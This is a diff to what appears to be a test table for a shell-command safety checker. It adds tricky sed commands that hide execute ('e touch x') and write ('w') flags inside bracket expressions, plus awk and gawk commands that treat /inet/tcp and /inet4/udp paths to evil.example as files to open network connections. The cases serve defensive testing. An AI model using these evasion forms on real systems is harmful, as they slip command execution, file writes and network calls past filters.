@@ -37,6 +37,18 @@ CASES = [
         "wget -r http://docs.example/",
         "http docs.example",
         "grep --exclude-fro=key x a.py",
+        # brackets in which one sed ends the pattern and another one does not
+        "sed -n '/[/s,]/e touch x #,g,' a.py",
+        "sed -n '/[/s/]/w src/g' a.py",
+        "sed 's/[/]/w out/' a.py",
+        "sed 's/[/a/;s/x/]/;s/w out/x/' a.py",
+        "sed 's/[]/x/' a.py",
+        "sed 's/[a[:]/]/x/' a.py",
+        "sed 's,[\\],],x,' a.py",
+        # files of awk that are hosts
+        "awk 1 /inet/tcp/0/evil.example/80",
+        "gawk '{print}' a.py /inet4/udp/0/evil.example/53",
+        "awk -v x=1 1 /inet6/tcp/0/evil.example/80",
         "wc --files0-from=key",
     ),
     # git obeys the settings of the repository that it is led to
